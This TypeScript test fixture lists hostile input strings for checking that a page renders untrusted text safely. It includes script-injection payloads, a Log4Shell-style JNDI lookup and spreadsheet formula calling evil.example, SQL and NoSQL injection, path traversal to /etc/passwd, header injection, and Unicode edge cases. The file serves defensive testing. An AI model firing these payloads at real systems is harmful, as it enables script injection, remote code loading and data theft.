/**
 * What an attacker may write into a listing, a name or a response to break or take over a page. Scripts among them set
 * `window.hostileRan`, so that a test can ask whether one ran.
 */
const ran = 'window.hostileRan=true';

const markup = [
  `<img src=x onerror="${ran}">`, // a picture that fails on purpose
  `<script>${ran}</script>`, // a script
  `<scr<script>ipt>${ran}</scr</script>ipt>`, // a script in a script
  `"><script>${ran}</script>`, // a script after a closed attribute
  `" autofocus onfocus="${ran}" x="`, // a handler in an open attribute
  `<svg onload="${ran}">`, // a drawing with a handler
  `<input autofocus onfocus="${ran}">`, // an input that takes the focus
  `<iframe srcdoc="<script>parent.${ran}</script>"></iframe>`, // a frame with a script
  '<form action="https://evil.example"><button>Pay</button></form>', // a form to elsewhere
  '<base href="https://evil.example/">', // a base address
  '<meta http-equiv="refresh" content="0;url=https://evil.example">', // a refresh
  '<style>*{display:none}</style>', // a style sheet
  `</title><script>${ran}</script>`, // an end of a title
  '<!--', // an open comment
  `<math><mtext><table><mglyph><style><img src onerror="${ran}">`, // a mutation by namespace
  `<template shadowrootmode=open><script>${ran}</script></template>`, // a shadow root
] as const;

const addresses = [
  `javascript:${ran}`, // a script address
  `java\tscript:${ran}`, // a script address behind a tab
  `\u0001javascript:${ran}`, // a script address behind a control character
  `data:text/html,<script>parent.${ran}</script>`, // a page as data
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${ran}"/>`, // a drawing as data
  '//evil.example/x', // an address without a scheme
  '../../../../etc/passwd', // a way up
] as const;

const templates = [
  `{{constructor.constructor('${ran}')()}}`, // a double-brace template
  '${jndi:ldap://evil.example/a}', // a look-up
  "'; DROP TABLE users; --", // SQL
  '{"$gt":""}', // a NoSQL operator
  '=HYPERLINK("https://evil.example","Click")', // a formula of a spreadsheet
  'x\r\nSet-Cookie: a=b\r\n\r\n<h1>x', // lines of a header
  `&lt;script&gt;${ran}&lt;/script&gt;`, // entities
  '%E0%A4%A', // a percent code that is none
  '\\u003cscript\\u003e\\"', // escapes of JSON
] as const;

const letters = [
  '\u202etxt.exe', // right to left by force
  'هاتف Pixel 8', // Arabic with a number
  'Pi\u200bx\u200de\u2060l\ufeff', // letters of no width
  '\u200b\u200c\u200d\u2060\ufeff', // nothing but letters of no width
  ' \u00a0\u2003\u3000 ', // nothing but blanks
  `Z${'\u0300\u0301\u0315\u0338'.repeat(60)}algo`, // a flood of accents
  '👩🏽‍❤️‍💋‍👩🏿 👨‍👩‍👧‍👦 🏴󠁧󠁢󠁳󠁣󠁴󠁿', // a family of one letter
  'half \ud83d', // half a pair
  'zero\u0000zero', // the character zero
  '\u0007\u0008\u001b[31mred\u001b[0m\u007f', // control characters
  'one\u2028two\u2029three', // line and paragraph separators
  'line\n'.repeat(200), // many lines
  'W'.repeat(5_000), // a word without end
  'a phone '.repeat(2_000), // a text without end
] as const;

const programs = [
  '__proto__', // a prototype
  'constructor', // a constructor
  'undefined', // no value
  'NaN', // no number
  '[object Object]', // an object as text
  '1e400', // a number too large
  '$1,000,000,000.00', // a price with a sign
  '2026-02-31', // a day that is none
] as const;

export const hostileTexts: readonly string[] = [
  ...markup,
  ...addresses,
  ...templates,
  ...letters,
  ...programs,
];
